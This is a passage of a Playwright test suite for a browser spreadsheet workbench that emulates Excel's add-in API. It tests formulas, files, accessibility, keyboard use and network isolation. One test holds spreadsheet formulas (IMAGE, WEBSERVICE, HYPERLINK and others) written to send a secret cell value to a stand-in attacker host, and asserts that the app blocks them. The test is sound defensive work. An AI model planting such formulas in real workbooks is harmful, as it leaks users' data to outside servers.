          { addressLocal: "Results!AF1", format: { font: { bold: false }, fill: { color: "#00FF00" } } },
        ],
      ]);
    });

    test("insert and delete move formulas", async () => {
      const seen = await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Results");
          sheet.getRange("W1:W3").formulas = [[1], [2], ["=SUM(W1:W2)"]];
          await c.sync();
          sheet.getRange("W2").insert("Down");
          await c.sync();
          const after = sheet.getRange("W1:W4");
          after.load("formulas");
          await c.sync();
          const inserted = after.formulas;
          sheet.getRange("W2").delete("Up");
          await c.sync();
          const back = sheet.getRange("W1:W3");
          back.load("formulas");
          await c.sync();
          return [inserted.flat(), back.formulas.flat()];
        }),
      );
      expect(seen).toEqual([
        [1, "", 2, "=SUM(W1:W3)"],
        [1, 2, "=SUM(W1:W2)"],
      ]);
    });

    test("what one Excel.run wrote is undone in one step", async () => {
      await w.inPane(() =>
        Excel.run(async (c) => {
          const sheet = c.workbook.worksheets.getItem("Sheet1");
          sheet.activate();
          sheet.getRange("AA1:AB2").values = [
            [1, 2],
            [3, 4],
          ];
          sheet.getRange("AA1:AB1").format.font.bold = true;
          sheet.getRange("AA3").values = [[5]];
          await c.sync();
        }),
      );
      await w.goTo("AA5");
      await w.page.keyboard.press("Control+z");
      await w.until("AA3", null);
      expect(await w.values("AA1:AB2")).toEqual([
        [null, null],
        [null, null],
      ]);
    });

    test("errors name what is missing", async () => {
      const refused = (work: () => Promise<unknown>): Promise<string> =>
        w.inPane(work).then(
          () => "no error",
          (error) => String(error),
        );
      expect(
        await refused(() =>
          Excel.run(async (c) => {
            c.workbook.worksheets.getActiveWorksheet().getRange("A1").format.protection.locked = true;
            await c.sync();
          }),
        ),
      ).toContain("The workbench does not have RangeFormat.Protection");
      expect(
        await refused(() =>
          Excel.run(async (c) => {
            c.workbook.worksheets.getItem("Nope").activate();
            await c.sync();
          }),
        ),
      ).toContain("doesn't exist");
      expect(
        await refused(() =>
          Excel.run(async (c) => {
            c.workbook.worksheets.getActiveWorksheet().getRange("A1:B2").values = [[1]];
            await c.sync();
          }),
        ),
      ).toContain("number of rows or columns");
    });

    test("events reach handlers on the sheet, on the collection and of the selection", async () => {
      await press("listen");
      await eventually(async () => (await paneText("status")) === "listening", "listening");
      await w.type("T20", "1");
      await w.goTo("T22");
      await eventually(async () => {
        const events = await paneText("events");
        return ["changed T20 RangeEdited", "collection T20", "selection T22", "workbook selection"].every((e) =>
          events.includes(e),
        );
      }, "all four events");
      await press("read");
      await eventually(async () => (await paneText("status")).startsWith("Sheet1!T22="), "the selection is read");
      await eventually(
        async () => (await w.page.evaluate(() => window.workbench?.stats().references ?? 99)) < 5,
        "objects are released after Excel.run",
      );
    });
  });

  describe("sheets and places", () => {
    const at = (): Promise<string> =>
      w.page.evaluate(() => {
        const grid = window.workbench?.grid;
        const area = grid?.selection();
        const name = grid?.sheets().find((s) => s.id === area?.sheet)?.name;
        return `${name} ${area?.row},${area?.col}`;
      });
    const sheet = (name: string): Promise<void> =>
      w.page.evaluate((wanted) => {
        const grid = window.workbench?.grid;
        grid?.activate(grid.sheets().find((s) => s.name === wanted)?.id ?? "");
      }, name);

    test("the name box goes to places, names and tables of other sheets", async () => {
      await w.page.evaluate(() => window.workbench?.write("Results!F1", [[42]]));
      for (const [place, there] of [
        ["results!b81", "Results 80,1"],
        ["flows_", "Results 0,5"],
        ["RateTable", "Results 0,9"],
        ["'Results'!$C$3", "Results 2,2"],
      ] as const) {
        await sheet("Sheet1");
        await w.goTo(place);
        expect(await at(), place).toBe(there);
      }
      await w.goTo("A1");
      const box = w.page.locator('[data-u-comp="defined-name"] input').first();
      await box.fill("Nowhere!B2");
      await box.press("Enter");
      expect(await w.status()).toBe("'Nowhere!B2' is no place in this workbook");
      expect(await at()).toBe("Results 0,0");
      expect(await box.inputValue()).toBe("A1");
      await sheet("Sheet1");
    });

    test("a sheet added by hand is as large as the others, and grows with a result", async () => {
      await w.page.locator('[aria-label="Add a sheet"]').click();
      const size = (): Promise<unknown> =>
        w.page.evaluate(() => window.workbench?.grid.size(window.workbench.grid.activeSheet()));
      expect(await size()).toEqual({ rows: 2000, cols: 100 });
      await w.type("B3", "=TEST.SCHEDULE(1000,5%,2500)");
      await w.until("B2503", 2500);
      expect(await size()).toEqual({ rows: 2503, cols: 100 });
      await w.type("A2600", "=A:A");
      await w.until("A2600", (v) => v === "#SPILL!" || v === "#CYCLE!");
      await w.type("CZ5", "=B:B");
      await w.until("CZ5", "#SPILL!");
      await w.goTo("CZ5");
      await w.says(/the result runs off the sheet/);
      await w.page.evaluate(() => {
        const grid = window.workbench?.grid;
        grid?.deleteSheet(grid.activeSheet());
      });
    });

    test("a number too wide for its column is signs, never a smaller number", async () => {
      await w.page.evaluate(() => {
        const drawn: string[] = [];
        const { fillText } = CanvasRenderingContext2D.prototype;
        CanvasRenderingContext2D.prototype.fillText = function (...args) {
          drawn.push(args[0]);
          fillText.apply(this, args);
        };
        Reflect.set(window, "drawn", drawn);
        const bench = window.workbench;
        bench?.write("AH1", [[-1030499876], [1030499876.5], [12]]);
        const sheet = bench?.grid.activeSheet() ?? "";
        bench?.grid.setColumnWidth({ sheet, row: 0, col: 33, rows: 1, cols: 1 }, 150);
        bench?.grid.setFormats({ sheet, row: 0, col: 33, rows: 1, cols: 1 }, [["#,##0"]]);
      });
      const drawn = (text: string): Promise<boolean> =>
        eventually(
          () => w.page.evaluate((t) => (Reflect.get(window, "drawn") as string[]).includes(t), text),
          `${text} is drawn`,
        );
      await w.goTo("AH2");
      await drawn("-1,030,499,876");
      await w.page.evaluate(() => {
        const grid = window.workbench?.grid;
        const sheet = grid?.activeSheet() ?? "";
        (Reflect.get(window, "drawn") as string[]).length = 0;
        grid?.setColumnWidth({ sheet, row: 0, col: 33, rows: 1, cols: 1 }, 45);
      });
      const signs = await probe(
        async () => {
          const texts = await w.page.evaluate(() => Reflect.get(window, "drawn") as string[]);
          return texts.find((t) => /^#+$/.test(t));
        },
        () => "no signs are drawn",
      );
      expect(signs.length).toBeGreaterThan(3);
      expect(await w.page.evaluate(() => window.workbench?.text("AH1")[0]?.[0])).toBe("-1,030,499,876");
    });
  });

  describe("files", () => {
    const plan: WorkbookPlan = {
      sheets: [
        {
          name: "Inputs",
          columnWidths: [20, 12],
          frozenRows: 1,
          cells: [
            { row: 0, column: 0, value: "Key", style: { bold: true, fill: "#DDEBF7" } },
            { row: 0, column: 1, value: "Value", style: { bold: true } },
            { row: 1, column: 0, value: "price" },
            { row: 1, column: 1, value: 350.5, style: { numberFormat: "#,##0.00" }, note: "a source" },
            { row: 2, column: 0, value: "share" },
            { row: 2, column: 1, value: 0.25 },
            { row: 4, column: 1, formula: "=SUM(Rates[Value])" },
            { row: 5, column: 1, formula: "=TEST.ADD(Price_)" },
            { row: 6, column: 0, formula: "=TEST.SCHEDULE(1000,5%,2)" },
          ],
          tables: [{ name: "Rates", area: { row: 0, column: 0, rows: 3, columns: 2 } }],
          validations: [
            {
              area: { row: 2, column: 1, rows: 1, columns: 1 },
              rule: { kind: "decimal", min: 0, max: 1 },
              prompt: { title: "Share", message: "from 0 to 1" },
            },
          ],
        },
      ],
      names: [{ name: "Price_", sheet: "Inputs", area: { row: 1, column: 1, rows: 1, columns: 1 } }],
      settings: { model: "one" },
    };
    test("a file that is no workbook leaves the open one untouched", async () => {
      const before = await w.value("E2");
      await open(new TextEncoder().encode("not a workbook"));
      expect(await w.status()).toContain("it is not an Excel workbook");
      await open(new Uint8Array([0x50, 0x4b, 3, 4, 1, 2, 3]));
      expect(await w.status()).toContain("could not be opened");
      expect(await w.value("E2")).toBe(before);
    });

    test("a workbook opens with values, functions, names, tables, notes, validation and settings", async () => {
      await open(await writeWorkbook(plan, ["TEST.ADD", "TEST.SCHEDULE"]));
      expect(await w.status()).toBe("opened test.xlsx");
      await w.until("B5", 350.75);
      await w.until("B6", 351.5);
      await w.until("A9", 2);
      await w.goTo("B3");
      await w.says("Share: from 0 to 1");
      await paneStarted();
      const seen = await w.inPane(async () => {
        Office.context.document.settings.set("document key", { deep: [1] });
        await new Promise((done) => Office.context.document.settings.saveAsync(done));
        return Excel.run(async (c) => {
          const setting = c.workbook.settings.getItem("model");
          setting.load("value");
          c.workbook.settings.add("more", { n: 2 });
          const table = c.workbook.tables.getItem("Rates").getRange();
          table.load("address");
          await c.sync();
          return [setting.value, table.address];
        });
      });
      expect(seen).toEqual(["one", "Inputs!A1:B3"]);
    });

    test("functions are asked when the add-in's page has run to its end, not when office.js is ready", async () => {
      let late = false;
      await w.page.route("**/addin/taskpane.js", async (route) => {
        await new Promise((done) => setTimeout(done, 3000));
        late = true;
        await route.continue();
      });
      await open(await writeWorkbook(plan, ["TEST.ADD", "TEST.SCHEDULE"]));
      await eventually(async () => late, "the add-in's script is asked for");
      await paneStarted();
      await w.until("A9", 2);
      await w.until("B6", 351.5);
      await w.page.unroute("**/addin/taskpane.js");
      await w.inPane(async () => {
        await Excel.run(async (c) => {
          c.workbook.settings.add("more", { n: 2 });
          Office.context.document.settings.set("document key", { deep: [1] });
          await new Promise((done) => Office.context.document.settings.saveAsync(done));
          await c.sync();
        });
      });
    });

    test("saved and read again it is the same", async () => {
      await w.type("B2", "400");
      await w.until("B6", 401);
      const [saved] = await Promise.all([w.page.waitForEvent("download"), w.page.click("#save")]);
      expect(saved.suggestedFilename()).toBe("test.xlsx");
      const bytes = await readFile(await saved.path());
      const again = await readWorkbook(new Uint8Array(bytes), ["TEST.ADD", "TEST.SCHEDULE"]);
      const sheet = again.sheets[0];
      const cell = (row: number, column: number) => sheet?.cells.find((c) => c.row === row && c.column === column);
      expect(cell(0, 0)).toMatchObject({ value: "Key", style: { bold: true, fill: "#DDEBF7" } });
      expect(cell(1, 1)).toMatchObject({ value: 400, style: { numberFormat: "#,##0.00" }, note: "a source" });
      expect(cell(4, 1)?.formula).toBe("=SUM(Rates[Value])");
      expect(cell(5, 1)?.formula).toBe("=TEST.ADD(Price_)");
      expect(cell(6, 0)).toMatchObject({ formula: "=TEST.SCHEDULE(1000,5%,2)", spill: { rows: 3, columns: 5 } });
      expect(again.names).toEqual(plan.names);
      expect(sheet?.tables).toMatchObject([{ name: "Rates", area: { row: 0, column: 0, rows: 3, columns: 2 } }]);
      expect(sheet?.validations).toMatchObject(plan.sheets[0]?.validations ?? []);
      expect(sheet?.frozenRows).toBe(1);
      expect(again.settings).toMatchObject({ model: "one", more: 'json:{"n":2}' });
      expect(Object.keys(again.settings ?? {})).toContain("document:document key");

      await open(new Uint8Array(bytes));
      await w.until("B6", 401);
      await w.until("A9", 2);
      const settings = await w.page.evaluate(() => [
        window.workbench?.settings.get("more"),
        window.workbench?.documentSettings.size,
      ]);
      expect(settings).toEqual([{ n: 2 }, 1]);
    });
  });

  test("the page's own controls have names, the splitter has keys", async () => {
    const unnamed = await w.page.evaluate(() =>
      [...document.querySelectorAll("button, input, iframe, canvas, [role=separator]")]
        .filter((e) => e.getClientRects().length > 0)
        .filter((e) => !(e.getAttribute("aria-label") || e.getAttribute("title") || e.textContent?.trim()))
        .map((e) => e.outerHTML.slice(0, 120)),
    );
    expect(unnamed).toEqual([]);
    const width = (): Promise<number> => w.page.locator("#pane").evaluate((e) => e.getBoundingClientRect().width);
    const before = await width();
    await w.page.locator("#splitter").focus();
    await w.page.keyboard.press("ArrowLeft");
    expect(await width()).toBe(before + 20);
  });

  test("the page's own markup has no fault that axe knows", async () => {
    for (const scheme of ["light", "dark"] as const) {
      await w.page.emulateMedia({ colorScheme: scheme });
      await w.page.evaluate(AXE);
      const faults = await w.page.evaluate(async () => {
        const { violations } = await window.axe.run(
          { exclude: ["#grid > *", "body > div"] }, // the grid's own markup
          { iframes: false },
        );
        return violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html).join(" ")}`);
      });
      expect(faults, scheme).toEqual([]);
    }
    await w.page.emulateMedia({ colorScheme: "light" });
  });

  test("the keys of the page are found on it, without a fault that axe knows", async () => {
    await w.page.click("#keys");
    expect(await w.page.locator("#keys-help").innerText()).toMatch(/F6\s+to the next part of the page/);
    const faults = await w.page.evaluate(async () => {
      const { violations } = await window.axe.run("#keys-help", { iframes: false });
      return violations.map((v) => v.id);
    });
    expect(faults).toEqual([]);
    await w.page.keyboard.press("Escape");
    expect(await w.page.locator("#keys-help").isVisible()).toBe(false);
    expect(await w.page.evaluate(() => document.activeElement?.id)).toBe("keys");
  });

  test("no text and no width of the window makes the page wider than the window", async () => {
    const message = `first line\r\n\r\nsecond line ${"of a long source ".repeat(30)}`;
    await w.page.evaluate((prompt) => {
      const grid = window.workbench?.grid;
      const sheet = grid?.activeSheet() ?? "";
      const area = { sheet, row: 0, col: 30, rows: 1, cols: 1 };
      grid?.validate(area, {
        rule: { decimal: { operator: "GreaterThan", formula1: 0 } },
        ignoreBlanks: true,
        prompt: { showPrompt: true, title: "", message: prompt },
      });
    }, message);
    await w.goTo("AE1");
    await w.says(/first line · second line of/);
    const more = w.page.locator("#line-more");
    const height = (): Promise<number> => w.page.locator("#line").evaluate((e) => e.getBoundingClientRect().height);
    const before = await height();
    await more.click();
    expect(await height()).toBeGreaterThan(before);
    await more.click();
    expect(await height()).toBe(before);
    for (const [width, height] of [
      [1500, 860],
      [700, 900],
      [390, 800],
      [320, 640],
    ] as const) {
      await w.page.setViewportSize({ width, height });
      const seen = await w.page.evaluate(() => {
        const parts = "#bar button, #line-more, #pane, [data-u-comp=slide-tab-item]";
        const outside = [...document.querySelectorAll(parts)].filter((e) => {
          const { left, right, width } = e.getBoundingClientRect();
          return e.getClientRects().length > 0 && (left < 0 || right > innerWidth || width < 20);
        });
        return [document.documentElement.scrollWidth, outside.map((e) => e.outerHTML.slice(0, 80))];
      });
      expect(seen).toEqual([width, []]);
      const tabs = w.page.locator("[data-u-comp=slide-tab-item]").first();
      expect(await tabs.isVisible()).toBe(true);
    }
    await w.page.setViewportSize({ width: 1400, height: 860 });
  });

  test("by keys alone: the bar, the cells, the splitter, the pane and back", async () => {
    await w.page.reload();
    await w.page.waitForFunction(() => window.workbench?.ready);
    await w.page.evaluate(() => window.workbench?.settled());
    const focused = (): Promise<string> => w.page.evaluate(() => document.activeElement?.id ?? "");
    const CELLS = "__editor___INTERNAL_EDITOR__DOCS_NORMAL";
    // The grid takes the keyboard when it is drawn; F6 leads to the bar from anywhere.
    await paneStarted();
    await w.page.waitForFunction(() => document.querySelector("#grid canvas"));
    await w.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
    await eventually(async () => {
      if ((await focused()) === "open") return true;
      await w.page.keyboard.press("F6");
      return false;
    }, "F6 leads to the bar");
    for (const id of ["save", "reset", "keys"]) {
      await w.page.keyboard.press("Tab");
      expect(await focused()).toBe(id);
    }
    for (let n = 0; n < 6 && (await focused()) !== CELLS; n++) await w.page.keyboard.press("Tab");
    expect(await focused()).toBe(CELLS);
    await w.page.keyboard.press("ArrowDown");
    await w.page.keyboard.type("12", { delay: 20 });
    await w.page.keyboard.press("Enter");
    await w.until("A2", 12);
    const below = await w.value("A3");
    await w.page.keyboard.type("13", { delay: 20 });
    await w.page.keyboard.press("Escape");
    expect(await focused()).toBe(CELLS);
    await w.page.keyboard.press("ArrowUp");
    expect(await w.value("A3")).toBe(below);
    expect(await w.page.evaluate(() => window.workbench?.grid.selection().row)).toBe(1);
    for (const id of ["splitter", "pane", "open", CELLS]) {
      await w.page.keyboard.press("F6");
      await eventually(async () => (await focused()) === id, `F6 leads to ${id}`);
    }
    await w.page.keyboard.press("Shift+F6");
    await eventually(async () => (await focused()) === "open", "Shift+F6 leads back");
  });

  test("the sheet keeps its colours in dark mode", async () => {
    const dark = await openWorkbench({ addin: ADDIN, dark: true });
    try {
      const plan: WorkbookPlan = {
        sheets: [
          { name: "S", cells: [{ row: 4, column: 1, value: " ", style: { fill: "#FFF2CC", color: "#0000FF" } }] },
        ],
      };
      await dark.page.evaluate((all) => window.workbench?.open(all), [...(await writeWorkbook(plan))]);
      const seen = (): Promise<string> =>
        dark.page.evaluate(() => {
          const canvas = document.querySelector<HTMLCanvasElement>('#grid canvas[id^="univer-sheet-main-canvas"]');
          const at = { x: 46 + 88 + 40, y: 20 + 4.5 * 24 };
          const pixel = canvas?.getContext("2d")?.getImageData(at.x, at.y, 1, 1).data;
          return `${[...(pixel ?? [])].slice(0, 3)} on ${canvas && getComputedStyle(canvas).backgroundColor}`;
        });
      await probe(
        async () => (await seen()) === "255,242,204 on rgb(255, 255, 255)",
        () => "the fill of B5 is not the workbook's",
      );
    } finally {
      await dark.close();
    }
  });

  test("a browser that checks certificates accepts the pinned one, and no other", async () => {
    const server = await serve({ port: 0, addin: ADDIN });
    try {
      expect(await titleWithPin(server.url, server.spki)).toContain("Ironbook");
      const other = `${"A".repeat(43)}=`;
      await expect(titleWithPin(server.url, other)).rejects.toThrow("ERR_CERT_AUTHORITY_INVALID");
    } finally {
      await server.close();
    }
  });

  test("a stranger's workbook sends nothing out, whatever its cells ask for", async () => {
    const away = "https://away.example/take?d=";
    const hostile = [
      `IMAGE("${away}"&A1)`,
      `IMAGE("${away}"&A1,"a picture",1)`,
      `WEBSERVICE("${away}"&A1)`,
      `FILTERXML(WEBSERVICE("${away}"&A1),"//a")`,
      `RTD("away.example",,A1)`,
      `IRON.ECHO_AWAY("${away}"&A1)`,
    ];
    const before = w.outside.length;
    const asksThere: string[] = [];
    await w.page.context().route("https://away.example/**", (route) => {
      asksThere.push(route.request().url());
      return route.abort();
    });
    const cells = [
      { row: 0, column: 0, value: "secret" },
      { row: 0, column: 3, value: `<img src="${away}text">` },
      { row: 1, column: 3, value: "a link", link: `${away}link` },
      ...hostile.map((formula, row) => ({ row, column: 1, formula })),
      { row: 1, column: 2, formula: `HYPERLINK("${away}"&A1,"more")` },
      { row: 0, column: 2, formula: "LEN(A1)" },
    ];
    await open(await writeWorkbook({ sheets: [{ name: "Gift", cells }] }));
    await w.until("Gift!C1", 6);
    const shown = (await w.values(`Gift!B1:B${hostile.length}`)).map(([cell]) => cell);
    expect(shown).toEqual(hostile.map(() => "#NAME?"));
    // and were some part of the grid to ask all the same, the page's policy holds
    const asked = await w.page.evaluate(async (address) => {
      const image = new Image();
      const drawn = new Promise((done) => {
        image.onload = () => done("drawn");
        image.onerror = () => done("refused");
      });
      image.src = address;
      return [
        await fetch(address).then(
          () => "answered",
          () => "refused",
        ),
        await drawn,
      ];
    }, `${away}page`);
    expect(asked).toEqual(["refused", "refused"]);
    expect([w.outside.slice(before), asksThere]).toEqual([[], []]);
  });

  test("nothing left this machine, nothing was complained of", () => {
    expect(w.outside).toEqual([]);
    expect(
      w.problems.filter((p) => !/Applying inline style|unreadable|away\.example/.test(p) && !LEFT_OVER.test(p)),
    ).toEqual([]);
  });
});
